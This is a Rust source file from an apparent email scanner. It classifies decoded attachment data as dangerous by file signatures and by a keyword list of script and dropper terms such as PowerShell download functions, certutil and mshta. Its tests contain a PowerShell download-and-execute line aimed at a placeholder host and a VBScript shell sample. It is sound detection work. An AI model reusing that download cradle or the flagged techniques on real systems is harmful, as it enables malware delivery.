//! Judging decoded candidate bytes: does this decode to something a reader could save and
//! run or open (a known binary format, an archive hidden after a text prefix, a script), to
//! binary of unknown type, or to text?

use memchr::memmem;

use crate::inspect::sniff;

/// What a candidate block decodes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// A known file format, an embedded archive/executable, or a script: the token names it
    /// (`pe-executable`, `zip`, `script`…).
    Dangerous(&'static str),
    /// Binary data of no known type (keys, signatures, compressed or random data).
    Binary,
    /// Text with nothing executable in it.
    Text,
}

/// Decoded payloads shorter than this are never judged dangerous (too small to carry a
/// program; hashes and short IDs decode to less).
pub const MIN_PAYLOAD: usize = 64;

/// How much of the decoded data is searched for embedded signatures and script keywords.
const SEARCH_WINDOW: usize = 64 * 1024;

/// Signatures that mark an embedded file anywhere in the data (a self-extracting archive
/// with a text prefix, a PE after junk bytes). Long enough not to occur by chance.
const EMBEDDED: &[(&[u8], &str)] = &[
    (b"PK\x03\x04", "zip"),
    (b"PK\x05\x06", "zip"),
    (b"This program cannot be run in DOS mode", "pe-executable"),
    (b"This program must be run under Win32", "pe-executable"),
    (b"PE\x00\x00\x4c\x01", "pe-executable"),
    (b"PE\x00\x00\x64\x86", "pe-executable"),
    (b"\x7fELF\x01\x01", "elf-executable"),
    (b"\x7fELF\x02\x01", "elf-executable"),
    (b"%PDF-1.", "pdf"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole2"),
    (b"Rar!\x1a\x07", "rar"),
    (b"7z\xbc\xaf\x27\x1c", "7z"),
    (b"MSCF\x00\x00\x00\x00", "cab"),
    (b"{\\rtf1", "rtf"),
];

/// Lowercase keywords of scripts and droppers (VBScript, PowerShell, JScript, batch, shell,
/// HTA, Office macros). Searched only inside decoded blobs, never in the mail's own text.
const SCRIPT_WORDS: &[&[u8]] = &[
    b"createobject(",
    b"wscript.",
    b"shell.application",
    b"activexobject",
    b"executeglobal",
    b"invoke-expression",
    b"invoke-webrequest",
    b"downloadstring",
    b"downloadfile",
    b"net.webclient",
    b"frombase64string",
    b"-encodedcommand",
    b"start-process",
    b"set-executionpolicy",
    b"powershell",
    b"cmd.exe",
    b"cmd /c",
    b"@echo off",
    b"certutil",
    b"bitsadmin",
    b"mshta",
    b"rundll32",
    b"regsvr32",
    b"schtasks",
    b"<script",
    b"<hta:",
    b"eval(",
    b"fromcharcode",
    b"sub autoopen",
    b"sub document_open",
    b"sub workbook_open",
    b"#!/",
    b"/bin/sh",
    b"/bin/bash",
    b"chmod +x",
    b"subprocess",
    b"__import__",
];

/// Judges decoded bytes by their signature and their content.
///
/// ```
/// use mugai::inspect::smuggle::judge::{judge, Verdict};
/// let mut selfx = b"Self-extracting archive, please wait...\r\n".to_vec();
/// selfx.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00");
/// selfx.resize(200, 0);
/// assert_eq!(judge(&selfx), Verdict::Dangerous("zip"));
/// let vbs = b"Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n".repeat(3);
/// assert_eq!(judge(&vbs), Verdict::Dangerous("script"));
/// assert_eq!(judge("ordinary words in a sentence, nothing else here at all. ".repeat(3).as_bytes()), Verdict::Text);
/// ```
pub fn judge(data: &[u8]) -> Verdict {
    if data.len() < MIN_PAYLOAD {
        return Verdict::Text;
    }
    if let Some(kind) = leading_signature(data) {
        return Verdict::Dangerous(kind);
    }
    let window = &data[..data.len().min(SEARCH_WINDOW)];
    for (sig, kind) in EMBEDDED {
        if memmem::find(window, sig).is_some() {
            return Verdict::Dangerous(kind);
        }
    }
    let controls = window
        .iter()
        .filter(|&&b| (b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x1b)) || b == 0x7f)
        .count();
    if has_script_words(window) || (controls > 0 && has_script_words(&narrow_utf16(window))) {
        return Verdict::Dangerous("script");
    }
    // Text may hold a stray control byte; binary has many.
    if controls * 20 > window.len() {
        // A weak two-byte signature on binary content is the format it names (an
        // executable with a damaged header still runs on some loaders; random data that
        // starts with `MZ` is one block in 65,536).
        match sniff::detect(data) {
            kind @ ("pe-executable" | "bmp") => Verdict::Dangerous(kind),
            _ => Verdict::Binary,
        }
    } else {
        Verdict::Text
    }
}

/// The type named by the first bytes, with the weak two-byte signatures confirmed so that
/// random data starting with `MZ`, `BM` or `#!` is not taken for a program or picture.
fn leading_signature(data: &[u8]) -> Option<&'static str> {
    let kind = sniff::detect(data);
    match kind {
        "text" | "unknown" | "empty" => None,
        "pe-executable" => {
            let lfanew = data
                .get(0x3c..0x40)
                .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]) as usize);
            let pe_at = lfanew.and_then(|o| data.get(o..o + 4)) == Some(b"PE\0\0");
            let stub = memmem::find(&data[..data.len().min(1024)], b"program").is_some();
            (pe_at || stub).then_some(kind)
        }
        "bmp" => {
            let size = data
                .get(2..6)
                .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]) as usize);
            (data.get(6..10) == Some(&[0, 0, 0, 0]) && size.is_some_and(|s| s >= 26))
                .then_some(kind)
        }
        "script" => data
            .get(2)
            .is_some_and(|&b| b == b'/' || b == b' ')
            .then_some(kind),
        _ => Some(kind),
    }
}

fn has_script_words(window: &[u8]) -> bool {
    let lower: Vec<u8> = window.iter().map(|b| b.to_ascii_lowercase()).collect();
    SCRIPT_WORDS
        .iter()
        .any(|w| memmem::find(&lower, w).is_some())
}

/// UTF-16LE text (as in PowerShell's `-EncodedCommand`) narrowed to its low bytes.
fn narrow_utf16(window: &[u8]) -> Vec<u8> {
    window
        .chunks_exact(2)
        .filter(|c| c[1] == 0)
        .map(|c| c[0])
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mz_on_binary_is_a_program_but_mz_on_text_is_not() {
        let mut d = b"MZ".to_vec();
        d.extend((0..200u32).map(|i| (i * 37 % 251) as u8 & 0x1f));
        assert_eq!(judge(&d), Verdict::Dangerous("pe-executable"));
        let t = b"MZ-7 is the model name of the camera we ordered last week. ".repeat(3);
        assert_eq!(judge(&t), Verdict::Text);
        let mut r = b"XY".to_vec();
        r.extend((0..200u32).map(|i| (i * 37 % 251) as u8 & 0x1f));
        assert_eq!(judge(&r), Verdict::Binary);
    }

    #[test]
    fn utf16_powershell_is_script() {
        let cmd = "IEX (New-Object Net.WebClient).DownloadString('http://x/y')";
        let d: Vec<u8> = cmd.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        assert_eq!(judge(&d), Verdict::Dangerous("script"));
    }

    #[test]
    fn japanese_text_is_text() {
        let t = "お世話になっております。来週の会議資料をお送りします。".repeat(4);
        assert_eq!(judge(t.as_bytes()), Verdict::Text);
    }
}
